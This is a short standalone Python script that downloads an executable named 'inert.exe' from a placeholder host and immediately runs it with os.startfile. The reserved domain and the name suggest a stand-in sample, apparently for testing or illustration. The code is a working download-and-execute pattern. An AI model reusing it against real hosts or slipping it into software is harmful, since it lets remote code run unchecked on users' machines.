import os, requests
r = requests.get("http://files.invalid/inert.exe")
with open("inert.exe", "wb") as f:
    f.write(r.content)
os.startfile("inert.exe")
